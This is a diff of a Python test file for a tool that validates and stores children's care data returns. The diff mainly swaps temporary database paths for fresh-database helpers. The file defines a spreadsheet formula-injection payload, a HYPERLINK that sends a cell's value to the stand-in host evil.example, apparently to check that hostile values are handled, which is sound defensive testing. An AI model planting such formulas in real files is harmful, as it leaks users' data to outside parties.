@@ -16,6 +16,7 @@ from careboard.store import db as store_db
 from careboard.store.load import load_returns
 from careboard.validate import report
 from careboard.validate.runner import validate_files, validate_loaded
+from fresh_db import fresh_database, fresh_file
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
 
@@ -38,9 +39,9 @@ def test_files_with_bad_values_are_checked_not_refused(small_set):
     assert not [why for why in checked.result.skipped.values() if why.startswith("rule could not run")]
 
 
-def test_loaded_return_findings_are_stored(tmp_path, small_set):
+def test_loaded_return_findings_are_stored(small_set):
     write_table(small_set, "Episodes", [dict(EPISODE_ROWS[2], PLACE="Q9")])
-    con = store_db.connect(tmp_path / "v.duckdb")
+    con = fresh_database()
     load_returns(con, read_returns([small_set]))
     checked = validate_loaded(con, "886", 2026)
     stored = con.execute("SELECT rule, table_name, source_row, line, child FROM validation_findings").fetchall()
@@ -120,7 +121,7 @@ def test_row_and_line_of_a_loaded_xml_return(tmp_path):
         "<UPN>UN1</UPN></HEADER>\n</CHILD>\n"
         "</EXPSSDA903>\n"
     )
-    con = store_db.connect(tmp_path / "v.duckdb")
+    con = fresh_database()
     load_returns(con, read_returns([xml], la="886", year=2026))
     validate_loaded(con, "886", 2026)
     line = 1 + xml.read_text().splitlines().index(next(x for x in xml.read_text().splitlines() if ">B<" in x))
@@ -172,7 +173,7 @@ def test_every_repair_is_a_finding_when_files_are_checked(tmp_path, small_set):
 
 def test_every_repair_survives_the_load(tmp_path, small_set):
     repaired_set(small_set)
-    path = tmp_path / "v.duckdb"
+    path = fresh_file(tmp_path / "v.duckdb")
     con = store_db.connect(path)
     load_returns(con, read_returns([small_set]))
     con.close()
@@ -201,9 +202,9 @@ def test_file_level_repairs_are_findings(small_set):
     }
 
 
-def test_a_pseudonymised_load_keeps_no_identifier_as_found(tmp_path, small_set):
+def test_a_pseudonymised_load_keeps_no_identifier_as_found(small_set):
     repaired_set(small_set)
-    con = store_db.connect(tmp_path / "v.duckdb")
+    con = fresh_database()
     load_returns(con, read_returns([small_set]), key=b"0123456789abcdef-secret")
     values = dict(con.execute("SELECT field, value FROM load_normalisations").fetchall())
     assert values["CHILD"] is None and values["DOB"] in ("2012-05-01", "2019-11-14")
